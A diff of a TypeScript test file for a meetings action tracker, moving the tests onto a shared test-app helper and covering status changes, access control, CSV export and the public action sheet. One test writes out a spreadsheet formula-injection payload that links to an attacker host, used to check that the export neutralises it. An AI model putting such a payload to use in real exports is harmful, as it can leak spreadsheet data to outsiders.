@@ -1,10 +1,10 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { useTestApp } from '../../../test/support/use-test-app.ts'
 import { parse } from 'csv-parse/sync'
-import type { Database } from '../../platform/db/client.ts'
 import { sql } from 'drizzle-orm'
 import { addDays, londonToday } from '../../shared/dates.ts'
-import { createTestDatabase } from '../../../test/support/db.ts'
 import { Agent, createTestApp, signedInAgent } from '../../../test/support/app.ts'
+import { createTestDatabase } from '../../../test/support/db.ts'
 import { buildAgendaItem, buildBody, buildMeeting, buildPartnership, buildPerson } from '../../../test/support/builders.ts'
 import { buildAction, buildActionUpdate } from '../../../test/support/action-builders.ts'
 import { buildMaAction } from '../../../test/support/action-builders-ma.ts'
@@ -13,28 +13,21 @@ import { CSV_MAX_ROWS } from './actions.service.ts'
 import { meetingPaths } from '../meetings/meetings.paths.ts'
 import { seedDemoIfEmpty } from '../../demo/demo.seed.ts'
 
-let database: Database
-let t: ReturnType<typeof createTestApp>
+const t = useTestApp()
 let partnershipId: string
 let staff: Agent
 
 const P = actionPaths.manage
 
 beforeAll(async () => {
-  database = await createTestDatabase()
-  t = createTestApp(database)
-  partnershipId = (await buildPartnership(database.db)).id
+  partnershipId = (await buildPartnership(t.db)).id
   staff = await signedInAgent(t.app, t.services, { secretariatOf: [partnershipId] })
-})
-afterAll(async () => {
-  expect(t.logger.errors).toEqual([])
-  await database.close()
 })
 
 async function ourItem(opts: { exempt?: boolean } = {}) {
-  const body = await buildBody(database.db, { partnershipId })
-  const meeting = await buildMeeting(database.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesDraft')
-  const item = await buildAgendaItem(database.db, {
+  const body = await buildBody(t.db, { partnershipId })
+  const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesDraft')
+  const item = await buildAgendaItem(t.db, {
     meetingId: meeting.id,
     ...(opts.exempt ? { isExempt: true, exemptParagraph: 3, publicInterestReasoning: 'Commercial' } : {}),
   })
@@ -44,7 +37,7 @@ async function ourItem(opts: { exempt?: boolean } = {}) {
 describe('recording an action from the minutes item page', () => {
   it('lists the item’s actions and links to add one; the form records an action', async () => {
     const { item, meeting } = await ourItem()
-    const person = await buildPerson(database.db, { fullName: 'Hayley Hughes', email: 'hayley@example.org' })
+    const person = await buildPerson(t.db, { fullName: 'Hayley Hughes', email: 'hayley@example.org' })
     const minutesPage = await staff.getText(meetingPaths.manage.itemMinutes(item.id))
     expect(minutesPage.status).toBe(200)
     expect(minutesPage.text).toContain('No actions recorded for this item.')
@@ -99,14 +92,14 @@ describe('recording an action from the minutes item page', () => {
 describe('the action page', () => {
   it('adds an update with a status change; a refused transition is a 400 with a clear message', async () => {
     const { meeting } = await ourItem()
-    const action = await buildAction(database.db, { meetingId: meeting.id, status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date() })
+    const action = await buildAction(t.db, { meetingId: meeting.id, status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date() })
     const res = await staff.post(P.addUpdate(action.id), { text: 'Reopen please', statusTo: 'open' })
     expect(res.status).toBe(400)
     const html = await res.text()
     expect(html).toContain('This action has been cleared, so its status cannot change')
     expect(html).toContain('Reopen please')
 
-    const open = await buildAction(database.db, { meetingId: meeting.id })
+    const open = await buildAction(t.db, { meetingId: meeting.id })
     const ok = await staff.post(P.addUpdate(open.id), { text: 'Under way', statusTo: 'in_progress', reportedAtMeetingId: meeting.id })
     expect(ok.status).toBe(303)
     const page = await staff.getText(P.action(open.id))
@@ -118,7 +111,7 @@ describe('the action page', () => {
 
   it('the status page: clearing without a meeting is a 400; with one it clears', async () => {
     const { meeting } = await ourItem()
-    const action = await buildAction(database.db, { meetingId: meeting.id, status: 'completed', completedOn: '2016-08-01' })
+    const action = await buildAction(t.db, { meetingId: meeting.id, status: 'completed', completedOn: '2016-08-01' })
     const form = await staff.getText(P.changeStatus(action.id))
     expect(form.status).toBe(200)
     expect(form.text).toContain('govuk-radios__conditional')
@@ -137,7 +130,7 @@ describe('the action page', () => {
 
   it('edits: a stale version is a 409 that keeps the user’s text and carries the new version', async () => {
     const { meeting } = await ourItem()
-    const action = await buildAction(database.db, { meetingId: meeting.id })
+    const action = await buildAction(t.db, { meetingId: meeting.id })
     const form = await staff.getText(P.editAction(action.id))
     expect(form.text).toContain('name="version" value="1"')
     await t.services.actions.updateAction(await adminUser(), action.id, {
@@ -162,7 +155,7 @@ describe('the action page', () => {
 
   it('an update that changes the status carries the version: stale is a 409 keeping the text, with the new version', async () => {
     const { meeting } = await ourItem()
-    const action = await buildAction(database.db, { meetingId: meeting.id })
+    const action = await buildAction(t.db, { meetingId: meeting.id })
     const page = await staff.getText(P.action(action.id))
     expect(page.text).toContain('<input type="hidden" name="version" value="1">')
     // Someone else moves it on while the form is open.
@@ -183,14 +176,14 @@ describe('the action page', () => {
 
   it('a cleared or dropped action cannot be edited: no link on its page, and the form and save are refused', async () => {
     const { meeting } = await ourItem()
-    const cleared = await buildAction(database.db, {
+    const cleared = await buildAction(t.db, {
       meetingId: meeting.id,
       description: 'As minuted',
       status: 'cleared',
       clearedAtMeetingId: meeting.id,
       clearedAt: new Date(),
     })
-    const dropped = await buildAction(database.db, { meetingId: meeting.id, status: 'dropped', droppedReason: 'overtaken' })
+    const dropped = await buildAction(t.db, { meetingId: meeting.id, status: 'dropped', droppedReason: 'overtaken' })
     for (const a of [cleared, dropped]) {
       const page = await staff.getText(P.action(a.id))
       expect(page.status).toBe(200)
@@ -202,14 +195,14 @@ describe('the action page', () => {
     const res = await staff.post(P.editAction(cleared.id), { description: 'Rewritten history', groups: 'Executive', version: '1' })
     expect(res.status).toBe(409)
     expect((await t.services.actions.getAction(cleared.id)).description).toBe('As minuted')
-    const open = await buildAction(database.db, { meetingId: meeting.id })
+    const open = await buildAction(t.db, { meetingId: meeting.id })
     expect((await staff.getText(P.action(open.id))).text).toContain(`href="${P.editAction(open.id)}"`)
   })
 
   it('links actions of the same body and shows both sides', async () => {
     const { meeting } = await ourItem()
-    const a = await buildAction(database.db, { meetingId: meeting.id, description: 'Executive to consider the outcomes' })
-    const b = await buildAction(database.db, { meetingId: meeting.id, description: 'PMO to arrange discussions' })
+    const a = await buildAction(t.db, { meetingId: meeting.id, description: 'Executive to consider the outcomes' })
+    const b = await buildAction(t.db, { meetingId: meeting.id, description: 'PMO to arrange discussions' })
     expect((await staff.post(P.links(a.id), { linkedActionId: b.id })).status).toBe(303)
     expect((await staff.getText(P.action(b.id))).text).toContain('Executive to consider the outcomes')
     const bad = await staff.post(P.links(a.id), { linkedActionId: 'nope' })
@@ -221,7 +214,7 @@ describe('the action page', () => {
 
 describe('access', () => {
   it('no user: pages redirect to sign in, forms are 401; the tracker and CSV too', async () => {
-    const action = await buildAction(database.db)
+    const action = await buildAction(t.db)
     const anon = new Agent(t.app)
     for (const path of [P.action(action.id), P.tracker(), P.trackerCsv(), P.editAction(action.id), P.newAction(action.itemId!)]) {
       const res = await anon.get(path)
@@ -232,7 +225,7 @@ describe('access', () => {
   })
 
   it('another partnership’s secretariat gets 403; someone with no staff role cannot see the tracker', async () => {
-    const action = await buildAction(database.db)
+    const action = await buildAction(t.db)
     expect((await staff.get(P.action(action.id))).status).toBe(403)
     expect((await staff.get(P.newAction(action.itemId!))).status).toBe(403)
     expect((await staff.post(P.addUpdate(action.id), { text: 'x' })).status).toBe(403)
@@ -250,20 +243,20 @@ describe('the tracker page and CSV', () => {
   let tracker: Agent
   let ids: string[]
   beforeAll(async () => {
-    const p = await buildPartnership(database.db, { name: 'Chorley Public Service Reform' })
+    const p = await buildPartnership(t.db, { name: 'Chorley Public Service Reform' })
     tracker = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
-    const body = await buildBody(database.db, { partnershipId: p.id, name: 'Chorley PSR Executive' })
-    const meeting = await buildMeeting(database.db, { bodyId: body.id, date: '2016-07-19' })
-    const person = await buildPerson(database.db, { fullName: 'Siobhán O’Gara' })
-    const tricky = await buildAction(database.db, {
+    const body = await buildBody(t.db, { partnershipId: p.id, name: 'Chorley PSR Executive' })
+    const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' })
+    const person = await buildPerson(t.db, { fullName: 'Siobhán O’Gara' })
+    const tricky = await buildAction(t.db, {
       meetingId: meeting.id,
       description: 'Send a "collective" response, on behalf of the partnership\nsecond line',
       dueOn: addDays(londonToday(), -1),
       owners: [{ personId: person.id }, { groupName: 'PMO' }],
     })
-    await buildActionUpdate(database.db, { actionId: tricky.id, text: 'Cleared as response provided' })
+    await buildActionUpdate(t.db, { actionId: tricky.id, text: 'Cleared as response provided' })
     ids = [tricky.id]
-    for (let i = 0; i < 26; i++) ids.push((await buildAction(database.db, { meetingId: meeting.id, description: `Plain action ${i}`, status: 'completed', isPublic: false })).id)
+    for (let i = 0; i < 26; i++) ids.push((await buildAction(t.db, { meetingId: meeting.id, description: `Plain action ${i}`, status: 'completed', isPublic: false })).id)
   })
 
   it('renders rows, sort links that work without JavaScript, and pagination', async () => {
@@ -315,12 +308,12 @@ describe('the tracker page and CSV', () => {
   })
 
   it('neutralises formulas that owners write in descriptions and updates', async () => {
-    const p = await buildPartnership(database.db)
+    const p = await buildPartnership(t.db)
     const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
-    const body = await buildBody(database.db, { partnershipId: p.id })
+    const body = await buildBody(t.db, { partnershipId: p.id })
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
-    const action = await buildAction(database.db, { bodyId: body.id, description: formula })
-    await buildActionUpdate(database.db, { actionId: action.id, text: '@SUM(1+1)' })
+    const action = await buildAction(t.db, { bodyId: body.id, description: formula })
+    await buildActionUpdate(t.db, { actionId: action.id, text: '@SUM(1+1)' })
     const text = new TextDecoder().decode(new Uint8Array(await (await agent.get(P.trackerCsv())).arrayBuffer()))
     const [, row]: string[][] = parse(text, { bom: true })
     expect(row![3]).toBe(`'${formula}`)
@@ -328,10 +321,10 @@ describe('the tracker page and CSV', () => {
   })
 
   it('refuses, with a 400 asking to narrow the filters, an export larger than the CSV can hold', async () => {
-    const p = await buildPartnership(database.db)
+    const p = await buildPartnership(t.db)
     const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
-    const body = await buildBody(database.db, { partnershipId: p.id })
-    await database.db.execute(
+    const body = await buildBody(t.db, { partnershipId: p.id })
+    await t.db.execute(
       sql`insert into actions (body_id, description, raised_on) select ${body.id}::uuid, 'bulk ' || n, date '2016-07-19' from generate_series(1, ${CSV_MAX_ROWS + 1}::int) n`,
     )
     const res = await agent.get(P.trackerCsv())
@@ -341,7 +334,7 @@ describe('the tracker page and CSV', () => {
     expect(html).toContain('20,001 actions match these filters, but a CSV export can hold at most 20,000')
     expect(html).toContain('href="#q"')
     // Narrowed to within the limit, it downloads.
-    await database.db.execute(sql`update actions set status = 'completed' where body_id = ${body.id} and description = 'bulk 1'`)
+    await t.db.execute(sql`update actions set status = 'completed' where body_id = ${body.id} and description = 'bulk 1'`)
     const narrowed = await agent.get(`${P.trackerCsv()}?status=completed`)
     expect(narrowed.status).toBe(200)
     expect(parse(new TextDecoder().decode(new Uint8Array(await narrowed.arrayBuffer())), { bom: true })).toHaveLength(2)
@@ -350,28 +343,28 @@ describe('the tracker page and CSV', () => {
 
 describe('the public action sheet', () => {
   it('shows only public actions, never one on an exempt item, with cleared ones apart and no emails', async () => {
-    const body = await buildBody(database.db, { partnershipId })
-    const meeting = await buildMeeting(database.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesApproved')
-    const item = await buildAgendaItem(database.db, { meetingId: meeting.id })
-    const exempt = await buildAgendaItem(database.db, { meetingId: meeting.id, position: 1, isExempt: true, exemptParagraph: 3, publicInterestReasoning: 'x' })
-    const subOfExempt = await buildAgendaItem(database.db, { meetingId: meeting.id, position: 2, parentItemId: exempt.id })
-    const owner = await buildPerson(database.db, { fullName: 'Chris Sinnott', email: 'chris.secret@example.org' })
-    await buildAction(database.db, { itemId: item.id, description: 'CANARY-PUBLIC-OPEN', owners: [{ personId: owner.id }] })
-    await buildAction(database.db, { itemId: item.id, description: 'CANARY-PRIVATE', isPublic: false })
+    const body = await buildBody(t.db, { partnershipId })
+    const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesApproved')
+    const item = await buildAgendaItem(t.db, { meetingId: meeting.id })
+    const exempt = await buildAgendaItem(t.db, { meetingId: meeting.id, position: 1, isExempt: true, exemptParagraph: 3, publicInterestReasoning: 'x' })
+    const subOfExempt = await buildAgendaItem(t.db, { meetingId: meeting.id, position: 2, parentItemId: exempt.id })
+    const owner = await buildPerson(t.db, { fullName: 'Chris Sinnott', email: 'chris.secret@example.org' })
+    await buildAction(t.db, { itemId: item.id, description: 'CANARY-PUBLIC-OPEN', owners: [{ personId: owner.id }] })
+    await buildAction(t.db, { itemId: item.id, description: 'CANARY-PRIVATE', isPublic: false })
     // Marked public by mistake (or the item became exempt later): the query still keeps them out.
-    await buildAction(database.db, { itemId: exempt.id, description: 'CANARY-EXEMPT', isPublic: true })
-    await buildAction(database.db, { itemId: subOfExempt.id, description: 'CANARY-SUB-EXEMPT', isPublic: true })
-    await buildAction(database.db, { itemId: item.id, description: 'CANARY-DROPPED', status: 'dropped', droppedReason: 'x' })
-    await buildAction(database.db, { itemId: item.id, description: 'CANARY-CLEARED', status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date('2016-09-27T16:00:00Z') })
+    await buildAction(t.db, { itemId: exempt.id, description: 'CANARY-EXEMPT', isPublic: true })
+    await buildAction(t.db, { itemId: subOfExempt.id, description: 'CANARY-SUB-EXEMPT', isPublic: true })
+    await buildAction(t.db, { itemId: item.id, description: 'CANARY-DROPPED', status: 'dropped', droppedReason: 'x' })
+    await buildAction(t.db, { itemId: item.id, description: 'CANARY-CLEARED', status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date('2016-09-27T16:00:00Z') })
     // Raised at a meeting whose minutes are not published yet: not public until they are.
-    const unpublished = await buildMeeting(database.db, { bodyId: body.id, date: '2016-11-22' }, 'agendaPublished')
-    const unpublishedItem = await buildAgendaItem(database.db, { meetingId: unpublished.id })
-    await buildAction(database.db, { itemId: unpublishedItem.id, description: 'CANARY-MINUTES-NOT-PUBLISHED', isPublic: true })
+    const unpublished = await buildMeeting(t.db, { bodyId: body.id, date: '2016-11-22' }, 'agendaPublished')
+    const unpublishedItem = await buildAgendaItem(t.db, { meetingId: unpublished.id })
+    await buildAction(t.db, { itemId: unpublishedItem.id, description: 'CANARY-MINUTES-NOT-PUBLISHED', isPublic: true })
     // Minutes in draft, but the agenda was never published: not public either.
-    const neverPublished = await buildMeeting(database.db, { bodyId: body.id, date: '2016-10-11', agendaPublishedAt: null }, 'minutesDraft')
-    await buildAction(database.db, { itemId: (await buildAgendaItem(database.db, { meetingId: neverPublished.id })).id, description: 'CANARY-AGENDA-NOT-PUBLISHED' })
+    const neverPublished = await buildMeeting(t.db, { bodyId: body.id, date: '2016-10-11', agendaPublishedAt: null }, 'minutesDraft')
+    await buildAction(t.db, { itemId: (await buildAgendaItem(t.db, { meetingId: neverPublished.id })).id, description: 'CANARY-AGENDA-NOT-PUBLISHED' })
     // Raised at a meeting with no item (as the seed's 19 July 2016 actions): the meeting is the source.
-    await buildMaAction(database.db, {
+    await buildMaAction(t.db, {
       bodyId: body.id,
       meetingId: meeting.id,
       raisedOn: '2016-07-19',
@@ -380,9 +373,9 @@ describe('the public action sheet', () => {
       clearedAtMeetingId: meeting.id,
       clearedAt: new Date('2016-09-27T16:00:00Z'),
     })
-    await buildMaAction(database.db, { bodyId: body.id, meetingId: neverPublished.id, raisedOn: '2016-10-11', description: 'CANARY-ITEMLESS-UNPUBLISHED' })
-    await buildMaAction(database.db, { bodyId: body.id, meetingId: unpublished.id, raisedOn: '2016-11-22', description: 'CANARY-ITEMLESS-NO-MINUTES' })
-    await buildMaAction(database.db, { bodyId: body.id, description: 'CANARY-NO-SOURCE' })
+    await buildMaAction(t.db, { bodyId: body.id, meetingId: neverPublished.id, raisedOn: '2016-10-11', description: 'CANARY-ITEMLESS-UNPUBLISHED' })
+    await buildMaAction(t.db, { bodyId: body.id, meetingId: unpublished.id, raisedOn: '2016-11-22', description: 'CANARY-ITEMLESS-NO-MINUTES' })
+    await buildMaAction(t.db, { bodyId: body.id, description: 'CANARY-NO-SOURCE' })
 
     const anon = new Agent(t.app)
     const page = await anon.getText(actionPaths.public.bodyActions(body.slug))
@@ -411,7 +404,7 @@ describe('the public action sheet', () => {
 })
 
 async function adminUser() {
-  return { id: (await import('../../../test/support/builders.ts').then((m) => m.buildUser(database.db, { isAdmin: true }))).id, email: 'x@example.org', displayName: 'Admin', isAdmin: true, secretariatOf: [], memberOf: [] }
+  return { id: (await import('../../../test/support/builders.ts').then((m) => m.buildUser(t.db, { isAdmin: true }))).id, email: 'x@example.org', displayName: 'Admin', isAdmin: true, secretariatOf: [], memberOf: [] }
 }
 
 describe('the public action sheet of the demo', () => {
